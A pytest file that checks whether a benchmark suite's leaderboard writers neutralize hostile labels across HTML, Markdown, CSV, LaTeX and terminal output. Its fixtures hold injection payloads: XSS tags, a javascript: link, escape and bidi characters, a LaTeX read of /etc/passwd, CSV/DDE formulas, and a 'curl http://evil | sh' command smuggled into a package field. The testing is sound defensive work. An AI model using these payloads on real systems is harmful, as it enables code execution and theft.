"""What plugins and strangers write is shown by every writer, and steers none of them."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from scored import renamed, small_plan, small_results

from nasbench_suite.leaderboards import render_terminal, write_leaderboard
from nasbench_suite.leaderboards.papers import latex
from nasbench_suite.leaderboards.presentable import name, one_line, presentable
from nasbench_suite.leaderboards.text import markdown
from nasbench_suite.leaderboards.write import _csv
from nasbench_suite.scoring import Scoreboard, score

EVIL = (
    "Title\n\n# Another\r\n| a | b |\n| --- | --- |\n<script>alert(1)</script><img src=x onerror=alert(2)>"
    "\x1b]0;owned\x07\x1b[31m\u202eelbisivni\u202c\u200b [link](http://evil) ![i](http://evil/i) `code` ${7*7} $\\frac$ \\input{/etc/passwd} 100 %"
)
FORMULAS = ['=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "=cmd|' /C calc'!A0"]


def evil(labels: dict[str, str]) -> Scoreboard:
    """The small comparison with hostile words everywhere, and these labels."""
    plan, results = small_plan(), small_results()
    first = plan.runs["random-sampling", "nas-bench-201/cifar100"][0]
    results[first.id] = dataclasses.replace(results[first.id], outcome="failed", reason=EVIL)
    comparison = dataclasses.replace(plan.comparison, title=EVIL, description=EVIL, citation=EVIL)
    board = renamed(score(dataclasses.replace(plan, comparison=comparison), results), labels)
    entrants = {
        label: dataclasses.replace(
            entrant,
            summary=EVIL,
            tuning=EVIL,
            package=f"x --index-url http://evil; curl http://evil | sh {EVIL}",
            version=EVIL,
            family=EVIL,
            paper=f"https://x)\n[y](javascript:alert(1)) {EVIL}",
            step=EVIL,
            prior=EVIL,
            parameters={"a|b\n": EVIL},
            changed={"a|b\n": EVIL},
        )
        for label, entrant in board.entrants.items()
    }
    boards = tuple(
        dataclasses.replace(
            held,
            contest=dataclasses.replace(held.contest, provenance={EVIL: EVIL, "source": EVIL, "citation": EVIL}),
        )
        for held in board.boards
    )
    return dataclasses.replace(board, entrants=entrants, boards=boards)


LABELS = {"random-search": EVIL, "random-sampling": FORMULAS[0], "regularized-evolution": "r\u0430ndom-search"}


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("evil")
    write_leaderboard(evil(LABELS), directory)
    return directory


def test_no_file_holds_what_steers_a_terminal_or_turns_text(files: Path) -> None:
    for path in files.iterdir():
        if path.suffix == ".json":  # JSON escapes for itself; whoever prints it decodes it
            continue
        text = path.read_text(encoding="utf-8")
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]", text), path.name


def test_the_json_is_what_was_given(files: Path) -> None:
    document = json.loads((files / "leaderboard.json").read_text(encoding="utf-8"))
    assert document["comparison"]["title"] == EVIL
    assert {row["label"] for row in document["strategies"]} == set(LABELS.values())


def test_markdown_keeps_its_shape(files: Path) -> None:
    for file in ("README.md", "timings.md"):
        text = (files / file).read_text(encoding="utf-8")
        assert "<script" not in text and "<img" not in text
        assert not re.search(r"(?<!\\)\]\((?!https://(arxiv|doi)|regret|ranks)", text), file
        heads = [line for line in text.splitlines() if line.startswith("#")]
        assert not any(line.strip() == "# Another" for line in heads)
        widths: set[int] = set()
        for line in [*text.splitlines(), ""]:
            if line.startswith("|"):
                widths.add(len(re.findall(r"(?<!\\)\|", line)))
            else:
                assert len(widths) <= 1, (file, line)
                widths = set()


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.handlers: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.handlers += [key for key, _ in attributes if key.startswith("on")]
        self.links += [value or "" for key, value in attributes if key in ("href", "src")]
        assert tag not in ("img", "iframe", "object", "base")


def test_the_page_runs_and_links_nothing_of_theirs(files: Path) -> None:
    found = _Elements()
    found.feed((files / "index.html").read_text(encoding="utf-8"))
    assert found.scripts == 2 and not found.handlers
    assert all(link.startswith(("#", "https://", "data:")) for link in found.links)


def test_spreadsheets_find_no_formula(files: Path) -> None:
    for path in files.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                try:
                    float(cell)
                except ValueError:
                    assert not cell.lstrip().startswith(("=", "+", "-", "@")), (path.name, cell)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    ((cell,),) = list(csv.reader(io.StringIO(_csv(["head"], [[formula]]))))[1:]
    assert cell == f"'{formula}"
    assert _csv(["head"], [[-0.5], ["plain"]]).splitlines()[1:] == ["-0.5", "plain"]


def test_latex_compiles_and_reads_no_file(tmp_path: Path) -> None:
    text = latex(evil(LABELS))
    assert r"\input{" not in text and "/etc/passwd" in text
    if shutil.which("pdflatex") is None:
        pytest.skip("needs pdflatex and booktabs (Debian: texlive-latex-base, texlive-latex-recommended)")
    document = ["\\documentclass{article}\\usepackage{booktabs}\\begin{document}", text, "\\end{document}"]
    (tmp_path / "d.tex").write_text("\n".join(document), encoding="utf-8")
    command = ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "d.tex"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, errors="replace")
    assert done.returncode == 0, done.stdout[-1500:]


def test_the_terminal_stays_in_its_columns() -> None:
    shown = render_terminal(evil(LABELS))
    assert "\x1b" not in shown and all(len(line) <= 80 for line in shown.splitlines())


def test_labels_that_look_alike_are_told_apart() -> None:
    shown = presentable(evil({"regularized-evolution": "r\u0430ndom-search", "random-sampling": "random-search "}))
    names = list(shown.entrants)
    assert len(set(names)) == 3
    assert "random-search" in names
    assert any("U+0430" in label for label in names)
    assert any("written otherwise" in label for label in names)
    for held in shown.boards:
        assert {s.label for s in held.standings} | {u.label for u in held.unranked} == set(names)


@pytest.mark.parametrize(
    ("label", "expected"),
    [
        ("random-search", "random-search"),
        ("Größe-été", "Größe-été"),
        ("", "nameless (written otherwise)"),
        ("a\u200bb", "aU+200Bb (written otherwise)"),
        ("\u03bfne", "\u03bfne (U+03BF)"),
    ],
)
def test_names_say_what_the_eye_cannot_tell(label: str, expected: str) -> None:
    assert name(label) == expected


@given(st.text())
def test_any_text_is_one_printable_line(text: str) -> None:
    shown = one_line(text)
    assert shown.isprintable() and len(shown) <= 400
    escaped = markdown(shown)
    assert "\n" not in escaped and not re.search(r"(?<!\\)(\\\\)*[|<>\[\]`]", escaped)
